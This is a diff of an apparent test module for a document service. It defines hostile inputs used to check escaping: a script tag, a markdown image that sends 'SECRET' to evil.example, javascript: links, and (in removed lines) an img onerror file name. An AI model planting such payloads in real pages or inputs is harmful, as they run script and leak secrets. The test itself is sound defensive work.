@@ -27,8 +27,9 @@ HOSTILE_TEXT = "The monthly rent is 900 euros, payable on the first day.\n\n" + 
 """A document of the corpus (its first sentence answers the walk's questions)."""
 HOSTILE_LINE = "<script>alert(1)</script> ![x](https://evil.example/?q=SECRET) [pay here](javascript:alert(3))"
 """What a user types where one line goes: a title, a comment, a context's name, supplied text."""
-HOSTILE_NAMES = ("<img src=x onerror=alert(1)> lease.txt", "[pay here](javascript:alert(3)) notes.md")
-"""File names the names policy accepts, that markup would read as an image with a handler and a script link."""
+HOSTILE_NAMES = ("lease <3 & terms [v2].txt", "notes [draft] (see: x) 1<2.md")
+"""File names as close to markup as the names policy accepts (a name holding a tag or a link is refused at intake,
+``tests/adversarial/test_names_and_paths.py``): each must come back exactly as given."""
 SESSION = "walk-1"
 OTHER = "walk-2"
 NDJSON = {"Accept": "application/x-ndjson"}
